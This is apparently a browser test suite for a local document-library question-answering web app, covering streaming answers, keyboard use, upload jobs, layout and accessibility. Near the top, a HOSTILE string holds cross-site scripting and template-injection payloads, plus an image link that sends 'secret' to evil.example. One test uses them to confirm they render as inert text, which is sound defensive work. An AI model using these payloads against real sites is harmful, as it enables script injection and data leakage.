"""The page in a real browser, over a library in memory: keys, places, jobs, and content that wants to do harm."""

from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager
from pathlib import Path

import pytest

from rag.errors import GenerationError
from tests.api.serving import served
from tests.browser import Screen
from tests.ui.fakes import FakeLibrary, make_document
from ui.app import build_app

pytestmark = pytest.mark.browser

Window = Callable[..., Screen]

HOSTILE = (
    "<script>window.harmed=1</script><img src=x onerror='window.harmed=1'><svg onload='window.harmed=1'>"
    "![p](https://evil.example/p.png?q=secret) [c](javascript:window.harmed=1) {{constructor}} ${window.harmed=1} "
    '`${window.harmed=1}` " onmouseover="window.harmed=1'
)


def serving(library: FakeLibrary) -> AbstractContextManager[str]:
    """The application on a free port, in a thread."""
    return served(build_app(library))  # type: ignore[arg-type]


@pytest.fixture
def address(library: FakeLibrary) -> Iterator[str]:
    library.pace = 0.03
    with serving(library) as where:
        yield where


def quiet(screen: Screen) -> None:
    """Nothing was asked of another host and the browser had nothing to complain about."""
    assert screen.elsewhere == []
    assert screen.problems == []


def test_ask_stream_cite_open(address: str, library: FakeLibrary, window: Window) -> None:
    library.may_end.clear()
    screen = window(address).open()
    screen.page.fill("#question", "When does the queen leave the hive?")
    screen.page.keyboard.press("Enter")
    screen.page.wait_for_selector("#live .answer:has-text('The')")  # it streams: words before the end
    library.may_end.set()
    screen.page.wait_for_selector("body:not(.busy) #thread .cite")
    assert screen.page.evaluate("location.hash").startswith("#chat/")
    screen.matches(".small-print", "tokens/s")
    screen.page.hover("#thread .cite")
    screen.page.wait_for_selector("#sources .card.lit")
    screen.page.click("#thread .cite")
    source = screen.page.frame_locator("dialog.drawer iframe")
    assert "queen leaves" in source.locator("mark#passage").inner_text()
    visible = "e => { const r = e.getBoundingClientRect(); return r.top >= 0 && r.bottom <= innerHeight; }"
    passage = source.locator("mark#passage").element_handle()
    passage.owner_frame().wait_for_function(visible, arg=passage)  # the frame scrolls to it once it is laid out
    quiet(screen)


def test_keys(address: str, library: FakeLibrary, window: Window) -> None:
    library.may_end.clear()
    screen = window(address).open()
    page = screen.page
    page.keyboard.press("/")
    assert page.evaluate("document.activeElement.id") == "question"
    page.keyboard.type("When does the queen leave the hive, and the night train?")
    page.keyboard.press("Enter")
    page.wait_for_selector("#live .answer:has-text('The')")
    page.keyboard.press("Escape")
    page.wait_for_selector("#thread .turn:has-text('You stopped this answer here.')")
    page.keyboard.press("ArrowUp")
    assert page.input_value("#question") == "When does the queen leave the hive, and the night train?"
    page.evaluate("document.activeElement.blur()")
    page.keyboard.press("j")
    page.keyboard.press("j")
    assert page.evaluate("document.activeElement.closest('.card').dataset.number") == "2"
    page.keyboard.press("k")
    assert page.evaluate("document.activeElement.closest('.card').dataset.number") == "1"
    outline = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
    assert outline == "solid"  # focus can be seen
    page.keyboard.press("Enter")
    page.wait_for_selector("dialog.drawer[open]")
    page.keyboard.press("Escape")
    page.wait_for_selector("dialog.drawer:not([open])", state="attached")
    quiet(screen)


def test_an_answer_survives_a_reload(address: str, library: FakeLibrary, window: Window) -> None:
    library.may_end.clear()
    screen = window(address).open()
    screen.page.fill("#question", "When does the queen leave the hive, and the night train?")
    screen.page.keyboard.press("Enter")
    screen.page.wait_for_selector("#live .answer:has-text('The')")
    screen.page.wait_for_function("location.hash.startsWith('#chat/')")
    screen.reload()
    screen.page.wait_for_selector("#live .turn")
    library.may_end.set()
    screen.page.wait_for_selector("body:not(.busy) #thread .cite")
    assert screen.page.locator("#thread .turn").count() == 1
    quiet(screen)


def test_a_job_survives_a_reload_and_can_be_stopped(
    address: str, library: FakeLibrary, window: Window, tmp_path: Path
) -> None:
    library.may_end.clear()
    paths = []
    for number in range(40):
        paths.append(tmp_path / f"zebra {number}.md")
        paths[-1].write_text(f"Zebra number {number} lives by the canal.")
    screen = window(address).open("#library")
    with screen.page.expect_file_chooser() as chooser:
        screen.page.click("#library-head [data-do=choose]")
    chooser.value.set_files(paths)
    screen.matches("#jobs-there", r"\d+ of 40 files")
    screen.reload()
    screen.matches("#jobs-there", r"\d+ of 40 files")
    screen.page.click("#jobs-there [data-do=stop-job]")
    screen.matches("#jobs-there", r"Stopped: \d+ added")
    screen.matches("#table", r"zebra")
    quiet(screen)


def test_a_failed_file_says_why_and_is_read_again(
    address: str, library: FakeLibrary, window: Window, tmp_path: Path
) -> None:
    late = tmp_path / "late.md"
    late.write_text("Now there is something to read.")
    library.bad[str(late)] = "it is empty"
    screen = window(address).open("#library")
    screen.matches("#failures", "late.md.*It is empty")
    screen.page.click("#failures [data-do=reread]")
    screen.matches("#table", "late")
    screen.page.wait_for_selector("#failures .failures", state="detached")
    quiet(screen)


def test_library_filter_sort_pick_remove(address: str, library: FakeLibrary, window: Window) -> None:
    screen = window(address).open("#library")
    page = screen.page
    screen.matches("#table", "2 documents.*Bees.*Night train")
    page.click("#table [data-column=title]")
    screen.matches("#table", "Night train.*Bees")
    page.fill("[data-field=filter]", "bee")
    screen.matches("#table", "1 of 2 documents")
    page.fill("[data-field=filter]", "")
    page.click("#library-tools [data-kind=pdf]")
    screen.matches("#table", "1 of 2 documents.*Night train")
    page.click("#library-tools [data-kind=pdf]")
    screen.matches("#table", "2 documents")
    page.check("#table tr:has-text('Bees') input")
    page.click("[data-do=remove]")
    page.click("dialog .plain")  # thought better of it
    assert len(library.documents()) == 2
    page.click("[data-do=remove]")
    page.click("dialog .danger")
    screen.matches("#notice", "Removed 1")
    screen.matches("#table", "1 document")
    assert [info.title for info in library.documents()] == ["Night train"]
    quiet(screen)


def test_conversations_new_rename_find_delete(address: str, window: Window) -> None:
    screen = window(address).open()
    page = screen.page
    screen.ask("When does the queen leave the hive?")
    page.click("[data-do=new]")
    page.wait_for_selector("#thread .welcome")
    screen.ask("Where does the night train leave from?")
    assert page.locator(".conversations li").count() == 2
    page.hover("li:has-text('queen')")
    page.click("li:has-text('queen') [data-do=rename]")
    page.keyboard.type("My bees")
    page.keyboard.press("Enter")
    screen.matches(".conversations", "My bees")
    page.fill("[data-field=find]", "bees")
    page.wait_for_function("document.querySelectorAll('.conversations li').length === 1")
    page.click(".conversations li a")
    screen.matches("#thread", "When does the queen leave the hive")
    page.click(".conversations li [data-do=delete]")
    page.click("dialog .danger")
    page.wait_for_selector("#thread .welcome")
    assert page.evaluate("location.hash") == "#chat"
    quiet(screen)


def test_search_says_why(address: str, window: Window) -> None:
    screen = window(address).open("#search")
    screen.page.fill("[data-field=search]", "night train berth")
    screen.matches("#results", "1 passage.*Night train.*words 1st")
    screen.page.click("#results .title")
    assert "night train" in screen.page.frame_locator("dialog.drawer iframe").locator("mark").first.inner_text()
    quiet(screen)


def test_hostile_content_is_only_text(tmp_path: Path, window: Window) -> None:
    names = (HOSTILE.replace("/", "|"), "{{7*7}} ${7*7}")
    documents = [
        make_document(f"/home/ada/{name}.md", f"# {HOSTILE}\nzebra {HOSTILE}", title=HOSTILE) for name in names
    ]
    library = FakeLibrary(tmp_path / "home", documents)
    library.bad[f"/home/ada/{HOSTILE}.pdf"] = HOSTILE
    library.reply = f"# {HOSTILE}\n\nzebra {HOSTILE} [1]\n\n- {HOSTILE}\n\n{HOSTILE}"
    library.conversations.create(HOSTILE)
    with serving(library) as where:
        screen = window(where).open()
        screen.ask(f"zebra {HOSTILE}")
        screen.matches("#thread", r"evil\.example")
        screen.page.hover("#thread .cite")
        screen.page.hover("#sources .title")
        screen.page.click("#sources .title >> nth=0")
        screen.page.frame_locator("dialog.drawer iframe").locator("mark").first.wait_for()
        screen.page.keyboard.press("Escape")
        screen.page.goto(f"{where}/#library")
        screen.matches("#table", r"evil\.example")
        screen.matches("#failures", r"evil\.example")
        screen.page.hover("#table .title >> nth=0")
        screen.page.goto(f"{where}/#search")
        screen.page.fill("[data-field=search]", "zebra")
        screen.matches("#results", r"evil\.example")
        screen.page.hover("#results .title >> nth=0")
        assert screen.page.evaluate("window.harmed") is None
        assert "49" not in screen.text("#results .title >> nth=0")
        assert screen.page.locator("a[href^='http'], a[href^='javascript'], img[src^='http']").count() == 0
        quiet(screen)


def test_a_narrow_window_works_with_one_thumb(address: str, window: Window) -> None:
    screen = window(address, 390, 844, has_touch=True, is_mobile=True).open()
    page = screen.page
    page.tap(".starter >> nth=0")
    page.wait_for_selector("body:not(.busy) #thread .turn")
    fits = "document.documentElement.scrollWidth <= innerWidth"
    assert page.evaluate(fits)
    assert page.locator("#sources .card").first.bounding_box()["width"] > 300  # folded under the answer
    page.tap(".list-toggle")
    page.tap(".conversations [data-do=new]")
    page.wait_for_selector("#thread .welcome")
    for place in ("library", "search", "models"):
        page.tap(f".places [data-place={place}]")
        page.wait_for_selector(f"#place-{place}:visible")
        assert page.evaluate(fits), place
    small = page.evaluate(
        """() => [...document.querySelectorAll('button, .places a')].filter(e => e.offsetParent)
        .filter(e => Math.min(e.offsetWidth, e.offsetHeight) < 24).map(e => e.outerHTML)"""
    )
    assert small == []
    quiet(screen)


def test_each_place_begins_at_its_top(address: str, window: Window) -> None:
    screen = window(address, 1000, 300).open("#models")
    page = screen.page
    places = [link.get_attribute("data-place") for link in page.query_selector_all(".places [data-place]")]
    assert len(places) == 6
    assert page.query_selector_all(", ".join(f"#{place}" for place in places)) == []  # a browser would scroll to them
    page.wait_for_function("document.querySelector('#model-list .model') && scrollY === 0")
    page.evaluate("scrollTo(0, 400)")
    page.wait_for_function("scrollY > 0")
    page.click(".places [data-place=models]")
    page.wait_for_function("scrollY === 0")
    page.evaluate("location.hash = '#library'")
    page.wait_for_selector("#place-library:visible")
    page.evaluate("location.hash = '#models'")
    page.wait_for_selector("#place-models:visible")
    page.wait_for_function("scrollY === 0")
    quiet(screen)


def test_in_a_window_of_middle_width_the_list_lies_over_the_conversation(address: str, window: Window) -> None:
    screen = window(address, 1000, 760).open()
    screen.ask("When does the queen leave the hive?")
    middle, status = screen.page.locator("#middle"), screen.page.locator("#status")
    before = middle.bounding_box()
    screen.page.click(".list-toggle")
    screen.page.wait_for_selector(".conversations li a:visible")
    assert middle.bounding_box() == before
    places = screen.page.locator(".places").bounding_box()
    assert status.bounding_box()["x"] >= places["x"] + places["width"]
    quiet(screen)


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_what_is_drawn_has_contrast(address: str, window: Window, scheme: str) -> None:
    """The colours that the browser really used, not those that the style sheet meant."""
    screen = window(address, scheme=scheme).open()
    screen.ask("When does the queen leave the hive?")
    poor: list[str] = []
    for place in ("#chat", "#library", "#search", "#models"):
        screen.page.goto(f"{address}/{place}")
        screen.page.wait_for_selector(f"body[data-place={place[1:]}]")
        poor += screen.page.evaluate(CONTRAST)
    assert poor == []


def test_every_control_has_a_name_and_every_page_its_landmarks(address: str, window: Window) -> None:
    screen = window(address).open()
    screen.ask("When does the queen leave the hive?")
    for place in ("#chat", "#library", "#search", "#models"):
        screen.page.goto(f"{address}/{place}")
        screen.page.wait_for_selector(f"body[data-place={place[1:]}]")
        assert screen.page.evaluate(NAMELESS) == []
    assert screen.page.locator("header nav[aria-label]").count() == 1
    assert screen.page.locator("main").count() == 1
    assert screen.page.locator("[role=status]").count() >= 1
    assert screen.page.evaluate("document.documentElement.lang") == "en"


def test_a_pasted_file_is_taken_in_and_pasted_words_stay_words(address: str, window: Window) -> None:
    screen = window(address).open()
    assert not screen.paste("#question", "", "", {"text/plain": "only words"})  # left to the browser
    assert screen.paste("#question", "pasted.md", "The pasted walrus sleeps on the pier.")
    screen.matches("#jobs-here", "1 added.*pasted.md")
    screen.ask("Where does the pasted walrus sleep?")
    screen.matches("#thread .turn", "pier")
    quiet(screen)


def test_copy_and_ask_again(address: str, window: Window) -> None:
    screen = window(address, permissions=["clipboard-read", "clipboard-write"]).open()
    screen.ask("When does the queen leave the hive?")
    screen.page.click("[data-do=copy]")
    screen.matches("#announcer", "Copied")
    copied = "The queen leaves with half the hive in May. [1]\n\nSources:\n[1] Bees (bees.md)"
    assert screen.page.evaluate("navigator.clipboard.readText()") == copied
    screen.page.click("[data-do=retry]")
    screen.page.wait_for_function("document.querySelectorAll('#thread .turn').length === 2")
    quiet(screen)


def test_what_fails_says_so_where_it_failed(address: str, library: FakeLibrary, window: Window) -> None:
    screen = window(address).open()
    library.trouble = GenerationError("the model ran out of memory; set context_tokens lower")
    screen.page.fill("#question", "When does the queen leave the hive?")
    screen.page.keyboard.press("Enter")
    screen.matches("#live [role=alert]", "ran out of memory; set context_tokens lower")
    library.trouble = None
    screen.page.click("#live [data-do=again]")
    screen.page.wait_for_selector("body:not(.busy) #thread .cite")
    assert screen.page.locator("#live .turn").count() == 0
    assert screen.page.locator(".conversations li").count() == 1
    quiet(screen)


def test_nothing_found_is_a_calm_whole_answer(address: str, window: Window) -> None:
    screen = window(address).open()
    screen.ask("Xylophone?")
    assert screen.text("#thread .answer.calm") == "Nothing in your library answers this."
    assert screen.page.locator("[role=alert]").count() == 0
    quiet(screen)


def test_a_server_that_is_gone_is_said(library: FakeLibrary, window: Window) -> None:
    with serving(library) as where:
        screen = window(where).open()
    screen.page.wait_for_selector("body.away")


NAMELESS = """() => [...document.querySelectorAll('button, a[href], input, textarea, select, [role=img], iframe')]
  .filter(e => e.checkVisibility())
  .filter(e => !(e.getAttribute('aria-label') || e.innerText?.trim() || e.title || e.labels?.length
    || e.getAttribute('aria-labelledby') || e.querySelector('img[alt]:not([alt=""])')))
  .map(e => e.outerHTML.slice(0, 200))"""

CONTRAST = """() => {
  const parse = c => { const n = c.match(/[\\d.]+/g).map(Number); return n.length < 4 ? [...n, 1] : n; };
  const light = ([r, g, b]) => [r, g, b].map(v => v / 255)
    .map(v => v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)
    .reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
  const ground = e => {
    for (; e; e = e.parentElement) {
      const colour = parse(getComputedStyle(e).backgroundColor);
      if (colour[3] === 1) return colour;
    }
    return [255, 255, 255, 1];
  };
  const poor = [];
  const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walk.nextNode()) {
    const e = walk.currentNode.parentElement;
    if (!walk.currentNode.textContent.trim() || !e.offsetParent || e.closest('script, style, :disabled')) continue;
    if (getComputedStyle(e).visibility === 'hidden') continue;
    const a = light(parse(getComputedStyle(e).color)), b = light(ground(e));
    const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
    if (ratio < 4.5) poor.push(ratio.toFixed(2) + ' ' + e.outerHTML.slice(0, 160));
  }
  return poor;
}"""
